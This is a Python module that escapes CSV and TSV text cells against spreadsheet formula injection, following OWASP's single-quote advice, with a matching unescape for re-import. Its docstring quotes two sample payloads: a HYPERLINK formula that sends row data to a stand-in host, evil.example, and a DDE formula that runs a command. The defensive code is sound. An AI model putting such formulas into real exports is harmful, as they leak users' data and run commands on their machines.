"""Spreadsheet formula injection (“CSV injection”): what every CSV and TSV the app writes does to text cells.

A spreadsheet opening a CSV reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and one
that begins with a tab or a carriage return too, once it has stripped them): an event titled
``=HYPERLINK("https://evil.example/?"&A2, "Details")`` would become a link sending the row's neighbours away,
``=cmd|' /C calc'!A0`` a command. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection) is to
start such a cell with a single quote, which makes the spreadsheet take it as text; ``escape`` does that, and
both the API's CSV (``api.renderers``, ``api.readout``) and the admin's CSV and TSV exports (``admin.transfer``)
pass every text cell through it.

- Only text is escaped. A number (an ``int``, ``float`` or ``Decimal`` value: ``-5``, ``-0.5``) is data, written
  as it is, so that a spreadsheet still reads ``-5`` as minus five; the same characters as *text* (a title
  ``-5 degrees``) are escaped like any other text.
- The test is one look at the first character: it runs for every cell of a million-row export.
- A text that already begins with quotes and then a formula character (``'=x``) gets one quote more, so that
  ``unescape`` (the admin's import of its own export) gives back exactly what was exported.

JSON is never escaped: spreadsheets do not open it as a table, and programs reading it want the values as they are.
"""

from __future__ import annotations

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = frozenset("=+-@\t\r")
QUOTE = "'"
#: The first characters ``escape`` looks further at: a formula's, and a quote (quotes may come before one).
#: ``text and text[0] in SUSPECT`` is the one test most cells pass through (a slice ``text[:1]`` costs double).
SUSPECT = FORMULA_START | {QUOTE}


def escape(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text: prefixed with ``'`` if it would start a formula."""
    if text and text[0] in SUSPECT and text.lstrip(QUOTE)[:1] in FORMULA_START:
        return QUOTE + text
    return text


def unescape(text: str) -> str:
    """What ``escape`` was given: the cell of an exported file, read back."""
    if text[:1] == QUOTE and text.lstrip(QUOTE)[:1] in FORMULA_START:
        return text[1:]
    return text
